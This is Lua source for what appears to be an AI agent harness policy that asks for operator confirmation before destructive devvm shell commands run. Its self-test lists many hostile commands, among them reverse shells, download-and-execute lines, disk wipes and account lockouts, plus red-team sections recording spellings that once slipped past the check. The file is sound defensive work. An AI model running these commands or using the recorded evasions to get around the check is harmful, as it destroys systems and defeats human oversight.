    if c.argv[ops[k]]:find("%-$") then
      return c.name .. " install " .. c.argv[ops[k]] .. " removes a package"
    end
  end
  return nil
end
RULES["apt-get"], RULES.apt, RULES.aptitude = apt_rule, apt_rule, apt_rule

-- Package managers whose mode is an option: the first word before "--"
-- that is one of longs or matches the pattern short removes packages.
local function removal_option_rule(longs, short)
  return function(c)
    for i = 2, #c.argv do
      local a = c.argv[i]
      if a == "--" then
        break
      elseif longs[a] or a:find(short) then
        return c.name .. " " .. a .. " removes a package"
      end
    end
    return nil
  end
end
RULES.dpkg = removal_option_rule({["--remove"] = true, ["--purge"] = true}, "^%-[%a]*[rP]")

-- Other distributions' package managers (a devvm need not be Debian):
-- the verb that removes packages, after the options that take a value.
local PACKAGE_MANAGERS = {
  dnf = {remove = {remove = true, erase = true, rm = true, autoremove = true, swap = true,
                   ["distro-sync"] = true, distrosync = true, dsync = true},
         short = "cdeRx", long = {config = true, debuglevel = true, errorlevel = true,
                                  exclude = true, installroot = true, releasever = true,
                                  enablerepo = true, disablerepo = true, repo = true,
                                  repoid = true, setopt = true, forcearch = true,
                                  disableplugin = true, enableplugin = true}},
  zypper = {remove = {remove = true, rm = true, ["dist-upgrade"] = true, dup = true},
            short = "cRDCp", long = {config = true, root = true, ["reposd-dir"] = true,
                                     ["cache-dir"] = true, ["plus-repo"] = true,
                                     userdata = true}},
  apk = {remove = {del = true}, short = "pX", long = {root = true, repository = true,
                                                     ["keys-dir"] = true, arch = true}},
  snap = {remove = {remove = true}, short = "", long = {}},
}
for _, name in ipairs({"yum", "microdnf", "tdnf"}) do
  PACKAGE_MANAGERS[name] = PACKAGE_MANAGERS.dnf
end

local function package_manager_rule(c)
  local pm = PACKAGE_MANAGERS[c.name]
  local ops = operands(c, pm.short, pm.long)
  local verb = c.argv[ops[1] or 0]
  if verb and pm.remove[verb] then
    return c.name .. " " .. verb .. " removes packages"
  end
  return nil
end
for name in pairs(PACKAGE_MANAGERS) do
  RULES[name] = package_manager_rule
end

RULES.rpm = removal_option_rule({["--erase"] = true}, "^%-e")
RULES.pacman = removal_option_rule({["--remove"] = true}, "^%-%a*R")

-- mount: a remount (read-only, noexec, ...) or a move changes a file
-- system in use, and a mount over a system folder hides it. /mnt and
-- /media are there to be mounted on.
local SCRATCH_MOUNTS = args.list({"/mnt", "/mnt/**", "/media", "/media/**"})
local function over_system_tree(c, i)
  return may_name(c, i, SYSTEM_TREES) and not (not c.words[i].glob
    and listed(shell.resolve(c.argv[i], c.cwd) or "", SCRATCH_MOUNTS))
end

RULES.mount = function(c)
  local ops, opts = operands(c, "oOtLUTNB", {options = true, types = true, label = true,
                                             uuid = true, ["test-opts"] = true, fstab = true,
                                             source = true, target = true, namespace = true})
  local options = opts.o or opts.options
  if type(options) == "string" and options:find("remount") or opts.M or opts.move then
    return "mount changes a mounted file system"
  end
  for _, i in ipairs(#ops > 1 and {ops[#ops]} or {}) do
    if over_system_tree(c, i) then
      return "mount over a system folder hides it"
    end
  end
  return nil
end

RULES.umount = function(c)
  local ops, opts = operands(c, "tOUN", {types = true, ["test-opts"] = true, namespace = true})
  if opts.a or opts.all then
    return "umount -a unmounts every file system"
  end
  for _, i in ipairs(ops) do
    if over_system_tree(c, i) then
      return "umount of a system folder"
    end
  end
  return nil
end

-- DHCP clients release the devvm's address with -r or -x.
local function dhcp_rule(c)
  if has_word(c, {["-r"] = true, ["-x"] = true, ["-k"] = true, ["--release"] = true,
                  ["--exit"] = true}) then
    return c.name .. " releases the devvm's address"
  end
  return nil
end
RULES.dhclient, RULES.dhcpcd = dhcp_rule, dhcp_rule

-- tar extracting into a system folder (-C, or the folder it runs in), or
-- with -P, the archive's absolute names: it overwrites what the archive
-- holds there. The home folder and the scratch ones are left out:
-- unpacking there is everyday work.
local UNPACK_FOLDERS = {["~"] = true, ["/tmp"] = true, ["/var/tmp"] = true, ["/mnt"] = true,
                        ["/media"] = true, ["/srv"] = true, ["/opt"] = true}
RULES.tar = function(c)
  local extract, absolute, dir = false, false, {value = ".", dynamic = false, glob = false}
  for i = 2, #c.argv do
    local a = c.argv[i]
    -- Short options in a bundle: -xzf, or the first word without a dash.
    local letters = a:match("^%-(%a+)$") or (i == 2 and a:match("^(%a+)$")) or ""
    extract = extract or letters:find("x", 1, true) ~= nil or a == "--get"
              or (#a > 4 and abbreviates(a:sub(3), "extract") and a:sub(1, 2) == "--")
    absolute = absolute or letters:find("P", 1, true) ~= nil or a == "--absolute-names"
    local w = c.words[i]
    if (a == "-C" or a == "--directory") and c.words[i + 1] then
      dir = c.words[i + 1]
    elseif a:find("^%-%-directory=") or a:find("^%-C.") then
      dir = {value = a:match("^%-%-directory=(.*)$") or a:sub(3), dynamic = w.dynamic,
             glob = w.glob}
    end
  end
  if not extract then
    return nil
  elseif absolute then
    return "tar -P extracts to the archive's absolute paths"
  end
  local probe = {name = c.name, cwd = c.cwd, words = {dir}}
  if not dir.dynamic and not UNPACK_FOLDERS[shell.resolve(dir.value, c.cwd) or ""]
      and may_name(probe, 1, SYSTEM_TREES) then
    return "tar extracts into a system folder"
  end
  return nil
end

-- docker, podman and nerdctl: a container given the host (privileged,
-- its PID namespace, added capabilities, a host system folder, file,
-- disk or the engine's socket mounted writable) can change the devvm as
-- root can.
local CONTAINER_HOST_FILES = args.list({"/var/run/docker.sock", "/run/docker.sock",
                                        "/run/podman/podman.sock", "/run/containerd/**",
                                        "/var/run/containerd/**", "/proc", "/proc/**", "/sys",
                                        "/sys/**", "/dev", "/dev/**"})

-- Whether a mount spec (SRC:DST[:opts] or type=bind,source=SRC,...) in
-- the word w gives a container a host path that matters, writable; nil
-- when it cannot be read. $HOME is the home folder, "~".
local function host_mount(c, w, spec)
  if w.dynamic then
    spec = spec:gsub("^%$HOME/", "~/"):gsub("^%${HOME}/", "~/")
    if spec:find("[$`]") then
      return nil
    end
  end
  local src, options
  if spec:find("=", 1, true) then
    src = spec:match("source=([^,]*)") or spec:match("src=([^,]*)")
    options = (spec:find("readonly") or spec:find("ro=true") or spec:find(",ro,")
               or spec:find(",ro$")) and "ro" or ""
  else
    src, options = spec:match("^([^:]*)"), spec:match("^[^:]*:[^:]*:(.*)$") or ""
  end
  if src == nil or src:sub(1, 1) ~= "/" and src:sub(1, 1) ~= "~" then
    return false -- a named volume
  end
  if options:find("%f[%w]ro%f[%W]") then
    return false
  end
  local probe = {name = c.name, cwd = c.cwd, words = {{value = src, dynamic = false,
                                                       glob = w.glob}}}
  return may_name(probe, 1, SYSTEM_TREES) or may_name(probe, 1, SYSTEM_FILES)
      or may_name(probe, 1, DISKS) or may_name(probe, 1, CONTAINER_HOST_FILES)
end

local MOUNT_OPTIONS = {["-v"] = true, ["--volume"] = true, ["--mount"] = true,
                       ["--device"] = true}

-- Words it cannot read ask only where they could give the container the
-- host: in run, create or exec, but for a mount read as $HOME/...
local function container_rule(c)
  local verb, read = false, {}
  for i = 2, #c.argv do
    local a, nxt = c.argv[i], c.argv[i + 1] or ""
    if not verb and (a == "run" or a == "create" or a == "exec") then
      verb = a
    elseif verb then
      local name, value = a:match("^(%-%-[%w-]+)=(.*)$")
      name, value = name or a, value or nxt
      local at = a:find("=", 1, true) and i or i + 1
      if a:find("^%-v.") then
        name, value, at = "-v", a:sub(3), i
      end
      if name == "--privileged" and value ~= "false" then
        return c.name .. " " .. verb .. " --privileged gives the container the devvm"
      elseif (name == "--pid" or name == "--userns" or name == "--uts") and value == "host"
          or name == "--cap-add" then
        return c.name .. " " .. verb .. " " .. name .. " gives the container the devvm's "
            .. (name == "--cap-add" and "powers" or "processes")
      elseif MOUNT_OPTIONS[name] and c.words[at] then
        local gives = host_mount(c, c.words[at], value)
        if gives then
          return c.name .. " " .. verb .. " mounts a devvm system path into the container"
        end
        read[at] = gives == false
      end
    end
  end
  for i = 2, verb and #c.argv or 0 do
    if c.words[i].dynamic and not read[i] then
      return nil
    end
  end
  return false
end
RULES.docker, RULES.podman, RULES.nerdctl = container_rule, container_rule, container_rule

-- nsenter with no command starts a shell in another process's namespaces
-- (init's: the devvm's), reading what the check cannot see.
RULES.nsenter = function(c)
  if has_word(c, {["-h"] = true, ["--help"] = true, ["-V"] = true, ["--version"] = true}) then
    return false
  end
  return "nsenter starts a shell in another process's namespaces"
end

--------------------------------------------------------------------------------
-- Judging a line

local function shown_word(v)
  if v ~= "" and not v:find("[^%w%-%./_:=,+@%%]") then
    return v
  end
  return "'" .. v:gsub("'", "'\\''") .. "'"
end

local function shown(c)
  local words = {}
  for i, v in ipairs(c.argv) do
    words[i] = shown_word(v)
  end
  local text = table.concat(words, " ")
  return c.via ~= "" and (text .. " [through " .. c.via .. "]") or text
end

local function excerpt(s)
  s = shell.printable(s)
  if utf8.len(s) > EXCERPT_MAX_CHARS then
    s = s:sub(1, utf8.offset(s, EXCERPT_MAX_CHARS + 1) - 1) .. "..."
  end
  return s
end

-- Why one command asks, or nil. A rule returns why, false when the
-- command is harmless whatever its arguments, or nil when it saw nothing:
-- then arguments it could not read (variables, xargs) ask.
local function judge(c)
  if ALWAYS[c.name] then
    return ALWAYS[c.name]
  end
  for _, name in ipairs(ALWAYS_GLOBS) do
    if shell.glob_match(name, c.name) then
      return ALWAYS[name]
    end
  end
  local script = c.argv[1]:match("^/etc/init%.d/(.+)$")
  if script then
    c = {name = "service", argv = {"service", script, c.argv[2]}, words = c.words}
  end
  local rule = RULES[c.name]
  if rule == nil then
    return nil
  end
  local why = rule(c)
  if why ~= nil then
    return why or nil
  end
  if c.extra then
    return "the arguments xargs gives " .. c.name .. " cannot be read"
  end
  for i = 2, #c.argv do
    if c.words[i] and c.words[i].dynamic then
      return "the check cannot read the arguments of " .. c.name
    end
  end
  return nil
end

-- Commands that put a file at a new path, and the options of theirs that
-- take a value.
local COPIERS = {cp = true, mv = true, install = true, ln = true, rsync = true}
-- Interpreters whose first operand is a program.
local INTERPRETERS = {"python*", "perl*", "ruby*", "node*", "php*", "lua*"}

-- The paths the line writes or copies a file to.
local function made_paths(r)
  local made = {}
  local function add(path, cwd)
    local p = shell.resolve(path, cwd)
    if p then
      made[p] = true
    end
  end
  for _, w in ipairs(r.writes) do
    if not w.target.dynamic then
      add(w.target.value, w.cwd)
    end
  end
  for _, c in ipairs(r.commands) do
    if COPIERS[c.name] then
      local ops, _, dir = copy_operands(c)
      local dest = dir or c.argv[ops[#ops] or 0]
      local sources = dir and #ops or #ops - 1
      if dest and sources > 0 then
        add(dest, c.cwd)
        for k = 1, sources do
          add(dest .. "/" .. c.argv[ops[k]]:match("[^/]*$"), c.cwd)
        end
      end
    elseif c.name == "dd" then
      for i = 2, #c.argv do
        local target = c.argv[i]:match("^of=(.+)")
        if target and not c.words[i].dynamic then
          add(target, c.cwd)
        end
      end
    elseif RULES[c.name] == download_rule then
      for _, target in ipairs(download_targets(c)) do
        add(target, c.cwd)
      end
    end
  end
  return made
end

-- A command that runs a program the line itself wrote or copied, under a
-- name the lists do not know (cp /sbin/reboot /tmp/x; /tmp/x), or nil.
local function runs_made(r)
  local made = made_paths(r)
  if next(made) == nil then
    return nil
  end
  for _, c in ipairs(r.commands) do
    local program = c.argv[1]:find("/", 1, true) and c.argv[1]
    if not program and matches_any(c.name, INTERPRETERS) then
      program = c.argv[operands(c)[1] or 0]
    end
    local path = program and shell.resolve(program, c.cwd)
    if path and made[path] then
      return c
    end
  end
  return nil
end

-- What the line asks about: why and what was seen, or nil.
local function check_command(line)
  local r = shell.parse(line)
  for _, c in ipairs(r.commands) do
    local why = judge(c)
    if why then
      return "a catastrophic devvm command (" .. why .. "): " .. shown(c)
    end
  end
  for _, w in ipairs(r.writes) do
    local c = {words = {w.target}, cwd = w.cwd}
    if w.target.dynamic then
      return "a catastrophic devvm command (a write to a target the check cannot read): "
          .. w.how .. " " .. shown_word(w.target.value)
    elseif may_name(c, 1, DISKS) then
      return "a catastrophic devvm command (a write onto a disk): " .. w.how .. " "
          .. shown_word(w.target.value)
    elseif may_name(c, 1, SYSTEM_FILES) then
      return "a catastrophic devvm command (a write to a system file): " .. w.how .. " "
          .. shown_word(w.target.value)
    end
  end
  local c = runs_made(r)
  if c then
    return "a devvm command the check cannot see through (it runs a program the line "
        .. "itself writes): " .. shown(c)
  end
  if r.unseen[1] then
    return "a devvm command the check cannot see through (" .. r.unseen[1] .. "): " .. line
  end
  return nil
end

local policy = {
  name = "confirm_destructive",
  description = "operator confirmation for catastrophic devvm commands (mkfs, dd onto a "
    .. "disk, rm -rf /, reboot, ...) and for lines whose commands the check cannot see; "
    .. "for power verbs only when confirm_power_verbs is set",
}

function policy.before(ctx, call)
  if call.tool == "pve" and call.mutating == true and confirm_power_verbs then
    return {confirm = "power verb " .. tostring(call.verb)
      .. " needs the operator's confirmation (confirm_power_verbs is on)"}
  end
  if call.tool ~= "devvm_shell" or type(call.input) ~= "table"
      or type(call.input.command) ~= "string" then
    return nil
  end
  local why = check_command(call.input.command)
  if why then
    return {confirm = excerpt(why)}
  end
  return nil
end

function policy.self_test(t)
  local ctx = t.ctx{now_ms = 0}
  local function decide(command)
    return policy.before(ctx, {tool = "devvm_shell", input = {command = command}, mutating = false})
  end
  local asks = {
    -- The report of issue 12, and the same effect by other names.
    "bash -c reboot", "sudo -u root reboot", "su -c reboot", "if true; then reboot; fi",
    "r\\eboot", "re''boot", "$(printf reboot)", "echo b > '/proc/sysrq-trigger'",
    "echo b | sudo tee /proc/sysrq-trigger", 'rm -rf "/"', "rm -rf '/'", 'dd of="/dev/vda"',
    "cat /dev/zero | sudo tee /dev/vda", "systemctl start reboot.target", "loginctl reboot",
    "rm -rf //", "rm -rf /.", "mke2fs", "kill -9 1",
    -- The lists.
    "mkfs.ext4 /dev/vdb1", "sudo mkfs -t xfs /dev/sdb", "wipefs -a /dev/sda",
    "dd if=/dev/zero of=/dev/sda bs=1M", "echo x > /dev/sda", "cat img >/dev/mapper/vg-root",
    "shred -n1 /dev/vdb", "fdisk /dev/vda", "parted -s /dev/sdb mklabel gpt", "sgdisk -Z /dev/sda",
    "sudo rm -fr /*", "rm -r -f --no-preserve-root /tmp/x", "rm -Rf /etc", "rm -rf ~/.ssh",
    "rm ~/.ssh/authorized_keys", "rm -rf /home/*", "cd / && rm -rf usr", "rm -rf ../../..",
    "poweroff", "/sbin/halt -p", "shutdown -h now", "sudo systemctl --force poweroff",
    "systemctl isolate rescue.target", "init 0", "telinit 6", "systemctl stop ssh",
    "sudo systemctl disable --now sshd.service", "service ssh stop", "kill -KILL 1",
    "kill -- -1", "pkill -9 sshd", "killall systemd", "zpool destroy tank", "lvremove -f vg/root",
    "mkswap /dev/vdc", "chmod -R 777 /", "chown -R nobody /etc", "mv /etc /etc.old",
    "crontab -r", "userdel breakglass", "ip link set eth0 down", "cp /dev/zero /dev/sda",
    "echo mem > /sys/power/state", ": > /etc/passwd", "printf c | tee -a /proc/sysrq-trigger",
    "find / -delete", "find / -exec rm -rf {} +", "echo / | xargs rm -rf",
    "kill -9 01", "pkill -P 1", "systemctl kill init.scope", "iptables -A INPUT -j DROP",
    "iptables -F", "echo reboot >> ~/.bashrc", "curl -o /etc/passwd http://x", "rmmod virtio_net",
    "ln -s /proc/sysrq-trigger /tmp/t", "cp /sbin/reboot /tmp/x; /tmp/x",
    "echo 'import os' > /tmp/x.py && python3 /tmp/x.py", "rm -rf /usr/lib/*", "rm -rf /var/lib/*",
    "mkntfs /dev/sdb1", "setpriv --reuid=0 reboot", "capsh -- -c reboot", "sg root -c reboot",
    "rm -rf ~/.ssh/*", "rm -f /root/.ssh/*", "rm -f /home/*/.ssh/authorized_keys", "rm -rf /e*",
    "echo b > /proc/sysrq-t*",
    -- The red team's report: spellings that passed.
    "time -- reboot", "sudo FOO=1 reboot", "toybox reboot",
    "/lib64/ld-linux-x86-64.so.2 /sbin/reboot",
    "sed -i d /etc/passwd", "sudo sed -i.bak 's/^Port 22/Port 2222/' /etc/ssh/sshd_config",
    "sed --in-place=.old -e 1d /etc/sudoers", "sed -ni p /etc/fstab", "unlink /etc/passwd",
    "rm --rec -f /etc", "rm --recu --force /usr", "chmod --recur 000 /", "chown --rec x /etc",
    "rsync -a --del /tmp/empty/ /etc/", "rsync -a --remove-source-files /etc/ /tmp/etc/",
    "dd if=/sbin/reboot of=/tmp/r; /tmp/r", "curl -so /tmp/r http://x; chmod +x /tmp/r; /tmp/r",
    "wget -O /tmp/x.py http://x && python3 /tmp/x.py",
    "pkill -STOP sshd", "pkill -TRAP sshd", "killall -TSTP sshd", "pkill -sigstop -x sshd",
    "rsync -avt --delete /tmp/empty/ /", "rsync -rlptgoD --delete /tmp/empty/ /etc/",
    "rsync -t /tmp/x /etc/passwd", "cp /tmp/passwd /etc", "cp -t /etc /tmp/passwd",
    "mv /tmp/sudoers /etc/", "install -m 600 /tmp/authorized_keys ~/.ssh/",
    "wget -rO /etc/passwd http://x", "wget -dO /etc/passwd http://x",
    "curl -JO -o /etc/passwd http://x", "x='a[$(reboot)]'; let x",
    "x='a[$(reboot)]'; declare -i y=x", "x='a[$(reboot)]'; echo ${a[x]}",
    "export LD_PRELOAD=/tmp/x.so; ls", "echo reboot | xargs -I{} {}", "newgrp adm <<< reboot",
    "systemd-inhibit reboot", "tmux new -d reboot", "parallel rm -rf ::: /",
    "start-stop-daemon --start --exec /sbin/reboot",
    "sed -n '1e reboot' /etc/hostname", "sed 's/.*/reboot/e' /etc/hostname",
    "sed -n 'w /etc/passwd' /tmp/x",
    -- The red team's second report.
    "passwd -u -l breakglass", "passwd -x 0 breakglass", "usermod -m -s /bin/false breakglass",
    "usermod -U -L breakglass", "usermod --lo breakglass", "chage -l -E 0 breakglass",
    "chage --exp 0 breakglass", "chage -d 0 breakglass", "gpasswd -d breakglass sudo",
    "apt-get remove openssh-server", "apt-get purge openssh-server", "apt-get autoremove",
    "apt-get -y -o Dpkg::Options::=--force-confold purge openssh-server", "apt remove sudo",
    "apt full-upgrade", "apt-get install openssh-server-", "dpkg -r systemd", "dpkg -P systemd",
    "dnf remove openssh-server", "yum -y erase sudo", "dnf --setopt=x=1 autoremove",
    "dnf -x kernel distro-sync", "microdnf remove sudo", "rpm -e openssh-server",
    "rpm -ev --nodeps systemd", "rpm --erase sudo", "zypper rm sudo", "zypper -n dup",
    "pacman -Rns openssh", "pacman --remove sudo", "apk del openssh", "snap remove lxd",
    "man -P 'sh -c reboot' ls", "man --pager=reboot ls", "man -Hreboot ls",
    "man --html=reboot ls",
    "dpkg --purge systemd", "dpkg --force-all -r sudo", "aptitude remove openssh-server",
    "mount -o remount,ro /", "mount -o ro,remount /home", "mount --move /mnt /home",
    "mount --bind /tmp/x /etc", "mount -t tmpfs tmpfs /root/.ssh", "umount -l /",
    "umount -f /home", "umount -a", "swapoff -a", "swapoff /swapfile", "pkill -u breakglass",
    "killall -u breakglass", "pkill -U 1000", "pkill --euid breakglass", "pkill -v nginx",
    "pkill -s 0", "kill -9 -1", "kill -s KILL -1", "dhclient -r", "dhclient -x eth0",
    "dhcpcd -k eth0", "ifconfig eth0 0.0.0.0", "ifconfig eth0 del 198.18.0.2",
    "ifconfig eth0 mtu 100", "ip addr flush dev eth0", "ip a f dev eth0",
    "ip link set eth0 down", "nmcli con down eth0", "nmcli c down id x",
    "nmcli -w 5 dev disconnect eth0", "nmcli networking off", "nmcli radio all off",
    "nmcli connection delete eth0",
    "echo x > /etc/systemd/system/x.service", "tee /etc/systemd/system/x.timer",
    "cp /tmp/x.service /etc/systemd/system/", "echo x > ~/.config/systemd/user/x.service",
    "ln -s /tmp/x.service /etc/systemd/system/multi-user.target.wants/",
    "systemctl link /tmp/x.service", "systemctl enable --now /tmp/x.service",
    "systemctl edit --stdin x", "echo x > /etc/cron.d/x", "cp /tmp/x /etc/cron.hourly/",
    "echo x >> /etc/rc.local", "echo x > /etc/profile.d/x.sh", "echo x > ~/.ssh/rc",
    "echo x > /etc/udev/rules.d/99-x.rules", "echo x > /etc/update-motd.d/99-x",
    "echo x > /etc/apt/apt.conf.d/99x", "echo x >> ~/.gitconfig",
    "at now -f /tmp/x", "at now + 1 minute -f /tmp/x", "echo reboot | at now", "batch -f /tmp/x",
    "ssh -o ProxyCommand='reboot' x", "ssh -oProxyCommand=reboot x",
    "ssh x -o 'ProxyCommand reboot'",
    "ssh -o RemoteCommand=reboot localhost", "scp -o ProxyCommand=reboot /tmp/x y:",
    "git -c core.pager=reboot log", "git -c core.sshCommand=reboot fetch",
    "git -c alias.x='!reboot' x", "git -c core.hooksPath=/tmp/h commit",
    "git config --global core.pager reboot", "GIT_SSH_COMMAND=reboot git fetch",
    "SYSTEMD_PAGER='sh -c reboot' systemctl status",
    "tar --checkpoint=1 --checkpoint-action=exec=reboot -cf /tmp/x /tmp",
    "tar --to-command=reboot -xf /tmp/x.tar", "tar -xf x.tar --to-c reboot",
    "tar cf /tmp/x.tar -I reboot /tmp", "tar xf /tmp/x.tar -C /", "tar xPf /tmp/x.tar",
    "cd / && tar xf /tmp/x.tar", "zip -T -TT reboot /tmp/x.zip /tmp/y",
    "zip --unzip-command=reboot -T /tmp/x.zip /tmp/y", "rsync -e 'sh -c reboot' /tmp/x y:/tmp",
    "rsync --rsh='sh -c reboot' /tmp/x y:/tmp",
    "rsync --rsync-path='sudo reboot' /tmp/x localhost:/tmp",
    "vim -c '!reboot' /tmp/x", "vi +'!reboot' /tmp/x", "echo '!reboot' | ex",
    "openssl rand -out /dev/vda 100", "openssl enc -in /tmp/x -out /dev/vda",
    "sort -o /etc/passwd /tmp/x", "socat - EXEC:reboot", "socat TCP-LISTEN:80,fork SYSTEM:reboot",
    "socat TCP-LISTEN:80 EXEC:/bin/sh", "socat - OPEN:/dev/vda", "nc -e /bin/sh 198.18.0.1 80",
    "nc -c reboot 198.18.0.1 80", "ncat --exec /bin/sh 198.18.0.1 80",
    "ncat --sh-exec reboot 198.18.0.1 80", "find / -exec reboot \\;",
    "find /tmp -execdir reboot \\;", "find / -fprint /etc/passwd",
    "mapfile -C reboot -c 1 x < /tmp/f",
    "docker run -v /:/h alpine", "docker run -v/etc:/e alpine", "podman run -v /:/h alpine",
    "docker run --mount type=bind,source=/,target=/h alpine", "docker run --privileged alpine",
    "podman run --pid=host alpine", "docker run --cap-add SYS_ADMIN alpine",
    "docker run --device /dev/vda alpine", "docker run -v /run/docker.sock:/s alpine",
    "docker exec --privileged x sh", "nsenter -t 1", "nsenter -t 1 -m -u -i -n -p",
    "docker run -v \"$X:/h\" alpine", "docker run $OPTS alpine", "docker run -v $HOME:/h alpine",
    "ssh -F /tmp/cfg x uptime", "openssl req -new -keyout /etc/ssh/ssh_host_rsa_key -out /tmp/x",
    -- Lines the check cannot see through.
    "eval reboot", "x=reboot; $x", "`echo reboot`", "echo reboot | sh", "bash <<EOF\nreboot\nEOF",
    "source /tmp/x.sh", "f() { :; }; f", "python3 -c 'import os'", "sudo $CMD",
    "systemctl $VERB", "echo 'unbalanced", "/sbin/re*", "awk 'BEGIN{system(\"id\")}'",
  }
  for _, c in ipairs(asks) do
    local d = decide(c)
    assert(d and d.confirm, "should ask: " .. c)
  end
  local passes = {
    "uptime", "df -h", "free -m", "dd if=/dev/sda of=/tmp/mbr bs=512 count=1", "ls 2>/dev/null",
    "fdisk -l /dev/sda", "parted /dev/sda print", "sgdisk -p /dev/sda", "rm -rf /tmp/x",
    "rm -rf ./build", "last reboot", "journalctl -b -1 | grep -i shutdown", "systemctl status",
    "echo hi > /tmp/sda", "mkswap /swapfile", "cat /proc/sysrq-trigger",
    "journalctl -u nginx --since '1 hour ago' --no-pager | tail -n 50",
    "sudo systemctl status ssh", "systemctl restart nginx", "dmesg | tail -n 50",
    "ps aux | grep -v grep | grep sshd", "du -sh /var/* 2>/dev/null | sort -h | tail",
    "ss -tlnp", "ip addr", "ip route show", "top -bn1 | head -20", "ls -la /var/log",
    "grep -r error /var/log/syslog | tail", "cat /etc/os-release", "kill -9 12345",
    "for u in nginx ssh; do systemctl is-active $u; done", "awk '{print $1}' /proc/loadavg",
    "rm -f /var/log/*.gz", "find /var/log -name '*.gz' -mtime +7 -delete", "rm -rf /tmp/*",
    "rm -rf /var/tmp/build-*", "cp /etc/fstab /tmp/fstab.bak", "echo x > /tmp/x; cat /tmp/x",
    "curl -o /tmp/x http://x", "iptables -L -n", "kill -0 1234", "rm -rf /var/cache/apt/*",
    "rm -f /home/x/*.log", "sed -i s/a/b/ /tmp/x", "sed -n 1p /etc/passwd",
    "sed 's/x/y/' /etc/ssh/sshd_config", "rm --rec /tmp/x", "rsync -a --del /tmp/a/ /tmp/b/",
    "rsync -avt --delete /tmp/a/ /tmp/b/", "cp -r /tmp/a /tmp/b", "cp -t /tmp /etc/passwd",
    "tmux ls", "screen -ls", "sed -n '/error/p' /var/log/syslog",
    "sed -e 's/^#//' -e '/^$/d' /etc/ssh/sshd_config",
    "passwd -S breakglass", "chage -l breakglass", "usermod -aG docker breakglass",
    "usermod --append --groups docker breakglass", "gpasswd -a breakglass docker",
    "apt list --installed", "apt-get install htop", "apt-get update", "apt show sudo",
    "dpkg -l", "dpkg -L openssh-server", "dpkg -S /usr/sbin/sshd", "mount", "mount -l -t ext4",
    "dnf install htop", "dnf -x remove install htop", "yum list installed", "rpm -qa",
    "rpm -qf /usr/sbin/sshd", "rpm -ivh /tmp/x.rpm", "zypper se sudo", "pacman -Qi openssh",
    "pacman -Syu", "apk add htop", "snap list", "man ls", "man -P cat ls", "man 5 crontab",
    "mount | grep ' / '", "mount /dev/vdb1 /mnt", "umount /mnt/x", "swapon --show",
    "pkill -u www-data nginx", "pkill -HUP nginx", "killall -s HUP nginx", "ifconfig",
    "ifconfig -a", "ifconfig eth0", "ifconfig eth0 up", "dhclient -v eth0", "ip addr show",
    "ip a s eth0", "nmcli con show", "nmcli -t -f NAME con show", "nmcli device status",
    "cat /etc/systemd/system/x.service", "ls /etc/systemd/system", "systemctl enable nginx",
    "systemctl daemon-reload", "cat /etc/crontab", "ls -la /etc/cron.d",
    "at -l", "atq", "ssh x uptime", "ssh -o ConnectTimeout=5 x uptime", "git log --oneline -5",
    "git -c core.pager=cat log", "git config core.pager", "PAGER=cat systemctl status",
    "tar tf /tmp/x.tar", "tar czf /tmp/x.tgz /var/log", "tar --checkpoint=1000 -cf /tmp/x /tmp",
    "tar xzf /tmp/x.tgz", "tar -xf /tmp/x.tar -C /tmp/y", "zip -r /tmp/x.zip /var/log",
    "rsync -av -e 'ssh -p 2222' /tmp/x y:/tmp", "vim +10 /tmp/x", "vi /tmp/x",
    "openssl x509 -in /tmp/c.pem -noout -text", "sort -u /tmp/x", "socat - TCP:198.18.0.1:80",
    "nc -zv 198.18.0.1 22", "mapfile -t lines < /tmp/f", "find / -name x", "docker ps",
    "docker logs --tail 50 x", "docker run --rm -v /tmp/x:/x alpine ls", "podman ps -a",
    "docker run --rm -v /:/h:ro alpine ls /h", "nsenter -t 1 -m df -h",
    "docker run --rm -v \"$HOME/proj:/src\" node:20 npm test", "docker logs $ID",
    "ssh -F /dev/null x uptime", "cat /etc/ssh/ssh_host_ed25519_key.pub",
  }
  for _, c in ipairs(passes) do
    local d = decide(c)
    assert(d == nil, "should pass: " .. c .. (d and (" (" .. d.confirm .. ")") or ""))
  end
  local d = decide("sudo mkfs.ext4 /dev/vdb1")
  assert(d.confirm == "a catastrophic devvm command (mkfs makes a new file system): "
    .. "mkfs.ext4 /dev/vdb1 [through sudo]", d.confirm)
  local cycle = {tool = "pve", input = {verb = "cycle"}, verb = "cycle", mutating = true}
  assert((policy.before(ctx, cycle) == nil) == not confirm_power_verbs, "power verbs")
end

return policy
